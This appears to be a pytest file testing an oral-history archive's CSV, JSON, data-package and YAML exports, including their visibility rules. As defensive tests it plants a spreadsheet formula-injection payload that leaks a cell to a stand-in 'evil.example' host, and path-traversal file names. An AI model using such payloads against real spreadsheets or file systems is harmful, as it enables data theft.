"""Data exports, read back with the tools researchers use: csv and pandas, json, frictionless,
the archive's own loader (YAML round trip); visibility; search order; streaming."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import yaml
from click.testing import CliRunner
from sqlalchemy import select

from archive.access.visibility import ANONYMOUS, viewer_for
from archive.catalogue.result_sets import QuoteRecord, ResultSet
from archive.cli.main import main
from archive.collection.loader import read_collection
from archive.facade import Archive
from archive.interchange.exports import FORMATS, NotFound, UnknownFormat, export, neutralise_formula, render
from archive.interchange.exports.context import ExportContext
from archive.interchange.exports.file_trees import UnsafePath, zip_chunks
from archive.search.request import SearchRequest
from archive.store import models
from tests.support import DATA

if TYPE_CHECKING:
    import frictionless

BASE = "https://archive.example.org"
RESEARCHER = viewer_for("researcher")
ARCHIVIST = viewer_for("archivist")
HIDDEN = {"boris-secret", "anna-embargoed"}  # restricted person's quote; quote under embargo till 2999
FIXTURE_QUOTES = ["anna-grandfather-shot", "anna-victory", "anna-hero-and-executioner", "anna-camps",
                  "anna-embargoed", "boris-secret"]


def _bytes(archive: Archive, result_set: ResultSet, fmt: str, viewer=ANONYMOUS) -> bytes:
    return b"".join(render(archive, result_set, fmt, viewer, BASE))


def _csv_rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def loaded(archive: Archive, fixture_collection: Path) -> Archive:
    archive.import_collection(fixture_collection)
    return archive


@pytest.fixture
def shipped(archive: Archive) -> Archive:
    archive.import_collection(DATA)
    return archive


# --- CSV ------------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_crlf_and_one_row_per_quote(loaded: Archive) -> None:
    raw = _bytes(loaded, ResultSet.collection(), "csv", RESEARCHER)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == raw.count(b"\n")  # every line ends in CRLF
    rows = _csv_rows(raw)
    assert [r["id"] for r in rows] == FIXTURE_QUOTES
    shot = rows[0]
    assert shot["person_id"] == "anna-synthetic" and shot["person_name"] == "Anna (synthetic)"
    assert shot["person_stance"] == "ambivalent" and shot["stance"] == "critic"
    assert shot["themes"] == "the-terror; the-gulag"
    assert shot["original_language"] == "ru"
    assert shot["text_ru"] == "Мой дед был расстрелян в 1937 году, а бабушку сослали в лагерь."
    assert shot["text_en"].startswith("My grandfather was shot in 1937, and")  # a comma: the cell is quoted
    assert (shot["text_ru_published"], shot["text_en_published"]) == ("true", "false")
    assert (shot["timecode_in"], shot["timecode_out"]) == ("00:01:05.000", "00:01:12.500")
    assert shot["source_id"] == "synthetic-transcript" and shot["locator"] == "line 3"
    assert shot["permalink"] == f"{BASE}/people/anna-synthetic#quote-anna-grandfather-shot"
    assert shot["access"] == "public"
    by_id = {r["id"]: r for r in rows}
    assert (by_id["anna-embargoed"]["access"], by_id["anna-embargoed"]["embargo_until"]) == ("embargoed", "2999-01-01")
    assert by_id["boris-secret"]["access"] == "restricted"


@pytest.mark.slow
def test_csv_reads_into_pandas_as_it_reads_with_csv(shipped: Archive) -> None:
    pandas = pytest.importorskip("pandas")
    raw = _bytes(shipped, ResultSet.collection(), "csv")
    frame = pandas.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    rows = _csv_rows(raw)
    assert len(frame) == len(rows) > 10
    assert list(frame.columns) == list(rows[0])
    assert frame.to_dict("records") == rows


def test_formula_cells_are_neutralised(archive: Archive, fixture_collection: Path) -> None:
    person_file = fixture_collection / "people" / "anna-synthetic.yaml"
    person = yaml.safe_load(person_file.read_text(encoding="utf-8"))
    quotes = {q["id"]: q for q in person["quotes"]}
    # the English of a Russian original is the archive's translation: not checked against the source
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    quotes["anna-victory"]["text"]["en"] = hyperlink
    quotes["anna-grandfather-shot"]["context"] = "+1 and more"
    quotes["anna-hero-and-executioner"]["context"] = "-2+3"
    quotes["anna-camps"]["context"] = "@SUM(1,2)"
    quotes["anna-embargoed"]["context"] = "\tindented"
    person["stance"]["rationale"] = "unchanged"
    person_file.write_text(yaml.safe_dump(person, allow_unicode=True, sort_keys=False), encoding="utf-8")
    boris_file = fixture_collection / "people" / "boris-synthetic.yaml"
    boris = yaml.safe_load(boris_file.read_text(encoding="utf-8"))
    boris["quotes"][0]["context"] = "\r=1+1"
    boris_file.write_text(yaml.safe_dump(boris, allow_unicode=True, sort_keys=False), encoding="utf-8")
    archive.import_collection(fixture_collection)

    rows = {r["id"]: r for r in _csv_rows(_bytes(archive, ResultSet.collection(), "csv", RESEARCHER))}
    assert rows["anna-victory"]["text_en"] == "'" + hyperlink
    assert rows["anna-grandfather-shot"]["context"] == "'+1 and more"
    assert rows["anna-hero-and-executioner"]["context"] == "'-2+3"
    assert rows["anna-camps"]["context"] == "'@SUM(1,2)"
    assert rows["anna-embargoed"]["context"] == "'\tindented"
    assert rows["boris-secret"]["context"] == "'\r=1+1"
    # no cell of the file starts a formula
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    # the data formats keep the exact text
    document = json.loads(_bytes(archive, ResultSet.person("anna-synthetic"), "json"))
    victory = next(q for q in document["quotes"] if q["id"] == "anna-victory")
    assert {t["lang"]: t["text"] for t in victory["texts"]}["en"] == hyperlink


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("", ""), ("plain", "plain"), ("a=b", "a=b"), ("'=quoted", "'=quoted"), ("— тире", "— тире"),
])
def test_neutralise_formula(cell: str, expected: str) -> None:
    assert neutralise_formula(cell) == expected


# --- JSON -------------------------------------------------------------------------------------------


def test_jsonl_is_one_quote_per_line(loaded: Archive) -> None:
    lines = _bytes(loaded, ResultSet.collection(), "jsonl", RESEARCHER).decode("utf-8").splitlines()
    quotes = [json.loads(line) for line in lines]
    assert [q["id"] for q in quotes] == FIXTURE_QUOTES
    shot = quotes[0]
    assert shot["texts"][0] == {"lang": "ru", "text": "Мой дед был расстрелян в 1937 году, а бабушку сослали в лагерь.",
                                "is_original": True, "is_published": True}
    assert shot["person"]["id"] == "anna-synthetic" and shot["themes"] == ["the-terror", "the-gulag"]
    assert shot["timecode_in"] == "00:01:05.000" and shot["source"]["title"] == "Synthetic transcript (test fixture)"


@pytest.mark.slow
def test_json_has_metadata_quotes_and_count(loaded: Archive) -> None:
    request = SearchRequest(query="лагерь", filters={"stance": ("critic",)})
    document = json.loads(_bytes(loaded, ResultSet.search(request), "json"))
    assert document["metadata"]["result_set"] == {"kind": "search",
                                                  "params": {"q": ["лагерь"], "stance": ["critic"]}}
    assert document["metadata"]["collection"]["id"] == "synthetic-test"
    assert document["metadata"]["viewer"] == "anonymous"
    assert dt.datetime.strptime(document["metadata"]["generated_at"], "%Y-%m-%dT%H:%M:%SZ")
    assert document["count"] == len(document["quotes"]) == 2
    empty = json.loads(_bytes(loaded, ResultSet.search(SearchRequest(query="zzzzqqq")), "json"))
    assert empty["quotes"] == [] and empty["count"] == 0


# --- the same query as the page -------------------------------------------------------------------------


@pytest.mark.parametrize("request_", [
    SearchRequest(query="Stalin"),
    SearchRequest(query="", filters={"stance": ("not-stated", "critic")}, sort="person"),
    SearchRequest(query="Russia OR Russian", sort="date"),
    SearchRequest(query="", filters={"theme": ("perestroika", "filmmaking")}),
], ids=["words", "filters", "or-by-date", "theme"])
@pytest.mark.slow
def test_export_of_a_search_is_the_search(shipped: Archive, request_: SearchRequest) -> None:
    whole = SearchRequest(query=request_.query, filters={**request_.filters, "kind": ("quote",)},
                          sort=request_.sort, per_page=100)
    result = shipped.search(whole)
    expected = [hit.id for hit in result.hits]
    assert result.total == len(expected) > 0
    for fmt in ("csv", "jsonl"):
        raw = _bytes(shipped, ResultSet.search(request_), fmt)
        got = [r["id"] for r in _csv_rows(raw)] if fmt == "csv" else \
            [json.loads(line)["id"] for line in raw.decode().splitlines()]
        assert got == expected, fmt


def test_person_and_theme_exports(loaded: Archive) -> None:
    person = [r["id"] for r in _csv_rows(_bytes(loaded, ResultSet.person("anna-synthetic"), "csv"))]
    assert person == ["anna-grandfather-shot", "anna-victory", "anna-hero-and-executioner", "anna-camps"]
    theme = [r["id"] for r in _csv_rows(_bytes(loaded, ResultSet.theme("the-gulag"), "csv", RESEARCHER))]
    assert theme == ["anna-grandfather-shot", "anna-camps", "boris-secret"]
    with pytest.raises(NotFound):
        _bytes(loaded, ResultSet.person("boris-synthetic"), "csv")  # restricted: not found, as its page
    with pytest.raises(NotFound):
        _bytes(loaded, ResultSet.theme("no-such-theme"), "csv")
    with pytest.raises(UnknownFormat):
        _bytes(loaded, ResultSet.collection(), "xlsx")
    with pytest.raises(UnknownFormat):
        _bytes(loaded, ResultSet.theme("the-gulag"), "yaml")


# --- visibility -----------------------------------------------------------------------------------------


def _ids_in(archive: Archive, fmt: str, viewer, tmp_path: Path) -> tuple[set[str], set[str]]:
    """(quote ids, person ids) that an export of the whole collection holds."""
    if fmt in ("csv", "jsonl", "json"):
        raw = _bytes(archive, ResultSet.collection(), fmt, viewer)
        if fmt == "csv":
            rows = _csv_rows(raw)
            return {r["id"] for r in rows}, {r["person_id"] for r in rows}
        quotes = json.loads(raw)["quotes"] if fmt == "json" else [json.loads(x) for x in raw.decode().splitlines()]
        return {q["id"] for q in quotes}, {q["person"]["id"] for q in quotes}
    target = tmp_path / f"{fmt}-{viewer.role}"
    export(archive, ResultSet.collection(), fmt, viewer, target, BASE)
    if fmt == "datapackage":
        with open(target / "quotes.csv", encoding="utf-8", newline="") as handle:
            quotes = {r["id"] for r in csv.DictReader(handle)}
        with open(target / "people.csv", encoding="utf-8", newline="") as handle:
            return quotes, {r["id"] for r in csv.DictReader(handle)}
    collection = read_collection(target)
    return {q.id for p in collection.people for q in p.quotes}, {p.id for p in collection.people}


@pytest.mark.parametrize("fmt", sorted(FORMATS))
@pytest.mark.slow
def test_exports_honour_visibility(loaded: Archive, fmt: str, tmp_path: Path) -> None:
    quotes, people = _ids_in(loaded, fmt, ANONYMOUS, tmp_path)
    assert quotes == set(FIXTURE_QUOTES) - HIDDEN
    assert "boris-synthetic" not in people
    quotes, people = _ids_in(loaded, fmt, RESEARCHER, tmp_path)
    assert quotes == set(FIXTURE_QUOTES)
    assert "boris-synthetic" in people


def test_an_embargo_whose_day_has_come_is_exported(loaded: Archive) -> None:
    after = viewer_for("anonymous", today=dt.date(2999, 1, 1))
    rows = {r["id"]: r for r in _csv_rows(_bytes(loaded, ResultSet.collection(), "csv", after))}
    assert "anna-embargoed" in rows and rows["anna-embargoed"]["access"] == "public"
    assert "boris-secret" not in rows


# --- Frictionless Data Package ----------------------------------------------------------------------------


def _report(path: Path) -> frictionless.Report:
    """Frictionless's own validation (imported here: it is slow to import, and every test process
    would pay for it at collection)."""
    import frictionless

    return frictionless.validate(str(path))


def _errors(report: frictionless.Report) -> list[str]:
    return [error.type for task in report.tasks for error in task.errors] + [e.type for e in report.errors]


@pytest.mark.parametrize("which", ["fixture", "shipped"])
@pytest.mark.slow
def test_datapackage_validates_with_frictionless(archive: Archive, fixture_collection: Path, which: str,
                                                  tmp_path: Path) -> None:
    archive.import_collection(fixture_collection if which == "fixture" else DATA)
    folder = tmp_path / "package"
    report = export(archive, ResultSet.collection(), "datapackage", RESEARCHER, folder, BASE)
    assert report.records > 0
    result = _report(folder / "datapackage.json")
    assert result.valid, result.flatten(["rowNumber", "fieldName", "type", "note"])
    assert {task.name for task in result.tasks} >= {"quotes", "quote_texts", "quote_themes", "people", "sources",
                                                    "stances", "themes", "relatives", "fate_events"}
    assert all(task.stats["rows"] is not None for task in result.tasks)

    zipped = tmp_path / "package.zip"
    export(archive, ResultSet.collection(), "datapackage", RESEARCHER, zipped, BASE)
    assert _report(zipped).valid

    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    resources = {r["name"]: r for r in descriptor["resources"]}
    quotes_schema = resources["quotes"]["schema"]
    assert quotes_schema["primaryKey"] == ["id"]
    stance = next(f for f in quotes_schema["fields"] if f["name"] == "stance")
    with archive.engine.connect() as conn:
        stances = conn.scalars(select(models.VocabularyTerm.id).where(models.VocabularyTerm.kind == "stances")
                               .order_by(models.VocabularyTerm.position)).all()
    assert stance["constraints"]["enum"] == stances
    assert {"fields": ["person_id"], "reference": {"resource": "people", "fields": ["id"]}} \
        in quotes_schema["foreignKeys"]
    assert resources["quote_texts"]["schema"]["primaryKey"] == ["quote_id", "lang"]
    types = {f["name"]: f["type"] for f in quotes_schema["fields"]}
    assert (types["position"], types["timecode_in"]) == ("integer", "number")


@pytest.mark.slow
def test_frictionless_catches_a_broken_package(loaded: Archive, tmp_path: Path) -> None:
    folder = tmp_path / "package"
    export(loaded, ResultSet.search(SearchRequest(query="лагерь")), "datapackage", ANONYMOUS, folder, BASE)
    assert _report(folder / "datapackage.json").valid
    quotes = folder / "quotes.csv"
    original = quotes.read_text(encoding="utf-8")

    quotes.write_text(original.replace(",anna-synthetic,", ",nobody-at-all,", 1), encoding="utf-8")
    broken = _report(folder / "datapackage.json")
    assert not broken.valid and "foreign-key" in _errors(broken)

    quotes.write_text(original.replace(",critic,", ",fan,", 1), encoding="utf-8")
    broken = _report(folder / "datapackage.json")
    assert not broken.valid and "constraint-error" in _errors(broken)

    quotes.write_text(original.replace(",1,critic,", ",first,critic,", 1), encoding="utf-8")
    broken = _report(folder / "datapackage.json")
    assert not broken.valid and "type-error" in _errors(broken)


@pytest.mark.slow
def test_datapackage_of_a_search_holds_only_its_people(loaded: Archive, tmp_path: Path) -> None:
    folder = tmp_path / "package"
    export(loaded, ResultSet.search(SearchRequest(query="Zanzibar")), "datapackage", RESEARCHER, folder, BASE)
    with open(folder / "people.csv", encoding="utf-8", newline="") as handle:
        assert [r["id"] for r in csv.DictReader(handle)] == ["boris-synthetic"]
    assert _report(folder / "datapackage.json").valid


# --- YAML: the collection format, round trip ------------------------------------------------------------


def _table_rows(archive: Archive) -> dict[str, list[dict]]:
    tables = {}
    with archive.engine.connect() as conn:
        for table in models.TABLES_IN_ORDER:
            sa_table = table.__table__  # type: ignore[attr-defined]
            keys = [c for c in sa_table.primary_key.columns]
            tables[sa_table.name] = [dict(r._mapping) for r in conn.execute(select(sa_table).order_by(*keys))]
    return tables


def _check_command(folder: Path) -> None:
    result = CliRunner().invoke(main, ["check", str(folder), "--no-index"])
    assert result.exit_code == 0, result.output
    assert "valid" in result.output


@pytest.mark.parametrize("which", ["shipped", "fixture", "access"])
@pytest.mark.parametrize("as_zip", [False, True], ids=["folder", "zip"])
@pytest.mark.slow
def test_yaml_round_trip_gives_an_identical_database(archive: Archive, fixture_collection: Path,
                                                     access_collection: Path, tmp_path: Path,
                                                     which: str, as_zip: bool) -> None:
    source = {"shipped": DATA, "fixture": fixture_collection, "access": access_collection}[which]
    archive.import_collection(source)
    target = tmp_path / ("export.zip" if as_zip else "export")
    report = export(archive, ResultSet.collection(), "yaml", ARCHIVIST, target, BASE, source_texts=source)
    assert report.warnings == []
    folder = target
    if as_zip:
        folder = tmp_path / "unzipped"
        with zipfile.ZipFile(target) as zipped:
            zipped.extractall(folder)
    _check_command(folder)

    again = Archive.open(tmp_path / "again")
    try:
        again.import_collection(folder)
        assert _table_rows(again) == _table_rows(archive)
    finally:
        again.close()
    # the texts were copied byte for byte
    for text in (source / "sources").glob("*.txt"):
        assert (folder / "sources" / text.name).read_bytes() == text.read_bytes()


@pytest.mark.slow
def test_yaml_without_source_texts_drops_only_text_file(shipped: Archive, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    report = export(shipped, ResultSet.collection(), "yaml", ARCHIVIST, folder, BASE)
    assert len(report.warnings) == 2 and all("exported without text_file" in w for w in report.warnings)
    _check_command(folder)
    again = Archive.open(tmp_path / "again")
    try:
        again.import_collection(folder)
        before, after = _table_rows(shipped), _table_rows(again)
        for row in before["source"]:
            row["text_file"] = None
        assert after == before
    finally:
        again.close()


def test_anonymous_yaml_export_leaves_out_withheld_records(loaded: Archive, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    export(loaded, ResultSet.collection(), "yaml", ANONYMOUS, folder, BASE, source_texts=None)
    _check_command(folder)
    assert sorted(p.name for p in (folder / "people").iterdir()) == ["anna-synthetic.yaml"]
    anna = (folder / "people" / "anna-synthetic.yaml").read_text(encoding="utf-8")
    assert "anna-embargoed" not in anna and "asked for it" not in anna  # the quote and its reason
    assert "public records only" in anna.splitlines()[0]
    researcher = tmp_path / "researcher"
    export(loaded, ResultSet.collection(), "yaml", RESEARCHER, researcher, BASE)
    text = (researcher / "people" / "boris-synthetic.yaml").read_text(encoding="utf-8")
    assert "status: restricted" in text and "synthetic restriction" in text
    assert "review:" not in text  # the review date is for archivists
    _check_command(researcher)


def test_yaml_export_of_one_person_is_a_valid_collection(loaded: Archive, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    export(loaded, ResultSet.person("anna-synthetic"), "yaml", ANONYMOUS, folder, BASE)
    collection = read_collection(folder)
    assert [p.id for p in collection.people] == ["anna-synthetic"]


@pytest.mark.slow
def test_folder_exports_refuse_to_mix_with_old_files(loaded: Archive, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "old.txt").write_text("old")
    with pytest.raises(FileExistsError):
        export(loaded, ResultSet.collection(), "yaml", ANONYMOUS, folder, BASE)


def test_yaml_never_copies_a_source_text_from_outside_its_folder(loaded: Archive, tmp_path: Path) -> None:
    with loaded.engine.begin() as conn:
        conn.execute(models.Source.__table__.update().where(models.Source.id == "synthetic-transcript")
                     .values(text_file="../../secret.txt"))
    (tmp_path / "secret.txt").write_text("secret")
    folder = tmp_path / "export"
    report = export(loaded, ResultSet.collection(), "yaml", ANONYMOUS, folder, BASE,
                    source_texts=tmp_path / "collection")
    assert report.warnings and not list(folder.rglob("secret.txt"))
    with pytest.raises(UnsafePath):
        list(zip_chunks([("../evil.txt", [b"x"])]))


# --- streaming ---------------------------------------------------------------------------------------


def _synthetic_records(count: int, consumed: list[int]) -> Iterator[QuoteRecord]:
    for i in range(count):
        consumed[0] = i + 1
        yield QuoteRecord(
            id=f"q-{i}", person_id=f"p-{i % 7}", person_name=f"Person {i % 7}", person_is_group=False,
            person_pseudonym=False, person_stance="critic", stance="critic", themes=["the-gulag"],
            texts={"ru": f"Синтетическая цитата номер {i}, " * 3, "en": f"Synthetic quote number {i}, " * 3},
            original_language="ru", published_translations=[], recording="rec", timecode_in=i * 1.5,
            timecode_out=i * 1.5 + 1, context=None, source_id="s", source_title="Synthetic source",
            source_author=None, source_publisher=None, source_date="2020", source_url=None, locator=None,
            position=i)


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
def test_stream_formats_yield_before_reading_all_input(fmt: str) -> None:
    consumed = [0]
    ctx = ExportContext(base_url=BASE)
    chunks = FORMATS[fmt].render(ctx.counted(_synthetic_records(2000, consumed)), ctx)
    first = next(chunks)
    assert first and 0 < consumed[0] < 2000  # output began long before the input was read
    rest = b"".join(chunks)
    assert consumed[0] == 2000 and ctx.count == 2000
    raw = first + rest
    if fmt == "csv":
        rows = _csv_rows(raw)
        assert len(rows) == 2000 and rows[-1]["timecode_in"] == "00:49:58.500"
    elif fmt == "jsonl":
        assert len(raw.decode().splitlines()) == 2000
    else:
        document = json.loads(raw)
        assert document["count"] == len(document["quotes"]) == 2000


def test_zip_streams_member_by_member() -> None:
    produced: list[str] = []

    def members():
        for i in range(50):
            produced.append(f"f{i}")
            yield f"dir/f{i}.txt", (bytes([65 + i % 26]) * 50_000 for _ in range(4))

    chunks = zip_chunks(members())
    first = next(chunks)
    assert len(produced) < 50  # the zip began before the later files were made
    raw = first + b"".join(chunks)
    assert len(produced) == 50
    with zipfile.ZipFile(io.BytesIO(raw)) as zipped:
        assert zipped.testzip() is None
        assert len(zipped.namelist()) == 50
        assert zipped.read("dir/f1.txt") == b"B" * 200_000


# --- command line ------------------------------------------------------------------------------------


@pytest.mark.slow
def test_cli_export_streams_to_stdout_and_writes_files(loaded: Archive, tmp_path: Path) -> None:
    home = ["--home", str(loaded.settings.home)]
    runner = CliRunner()
    result = runner.invoke(main, [*home, "export", "лагерь", "--stance", "critic", "--format", "csv",
                                  "--base-url", BASE])
    assert result.exit_code == 0, result.output
    rows = _csv_rows(result.stdout_bytes)
    expected = loaded.search(SearchRequest(query="лагерь", filters={"stance": ("critic",), "kind": ("quote",)}))
    assert [r["id"] for r in rows] == [h.id for h in expected.hits]
    assert rows[0]["permalink"].startswith(BASE + "/people/")

    target = tmp_path / "out.zip"
    result = runner.invoke(main, [*home, "export", "--collection", "--format", "datapackage", "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert _report(target).valid

    result = runner.invoke(main, [*home, "export", "--person-record", "anna-synthetic", "--format", "jsonl"])
    assert result.exit_code == 0 and len(result.stdout_bytes.splitlines()) == 4

    result = runner.invoke(main, [*home, "export", "--person-record", "boris-synthetic", "--format", "csv"])
    assert result.exit_code == 1 and "no person" in result.output
    result = runner.invoke(main, [*home, "export", "--person-record", "boris-synthetic", "--format", "csv",
                                  "--viewer", "researcher"])
    assert result.exit_code == 0 and b"boris-secret" in result.stdout_bytes

    result = runner.invoke(main, [*home, "export", "word", "--collection", "--format", "csv"])
    assert result.exit_code == 2 and "choose one of" in result.output

    folder = tmp_path / "collection-copy"
    result = runner.invoke(main, [*home, "export", "--format", "yaml", "--viewer", "archivist", "-o", str(folder),
                                  "--source-texts", str(tmp_path / "collection")])
    assert result.exit_code == 0, result.output
    _check_command(folder)


@pytest.mark.slow
def test_export_of_a_search_with_more_than_a_page_of_matches(archive: Archive, fixture_collection: Path) -> None:
    person_file = fixture_collection / "people" / "anna-synthetic.yaml"
    person = yaml.safe_load(person_file.read_text(encoding="utf-8"))
    person["quotes"] += [{"id": f"anna-camp-{i}", "text": {"en": f"Synthetic camp passage number {i}."},
                          "original_language": "en", "stance": "critic", "source": "synthetic-notes"}
                         for i in range(150)]
    person_file.write_text(yaml.safe_dump(person, allow_unicode=True, sort_keys=False), encoding="utf-8")
    archive.import_collection(fixture_collection)
    for sort in ("person", "relevance", "date"):
        rows = _csv_rows(_bytes(archive, ResultSet.search(SearchRequest(query="passage", sort=sort)), "csv"))
        assert len(rows) == 150  # the embargoed and the restricted passages are not for anonymous eyes
        assert len({row["id"] for row in rows}) == 150


def test_cli_offers_every_registered_format() -> None:
    from archive.interchange.citations import FORMATS as CITATION_FORMATS

    def choices(command: str) -> list[str]:
        option = next(p for p in main.commands[command].params if p.name == "fmt")
        return list(option.type.choices)  # type: ignore[attr-defined]

    assert choices("export") == list(FORMATS)
    assert choices("cite") == list(CITATION_FORMATS)
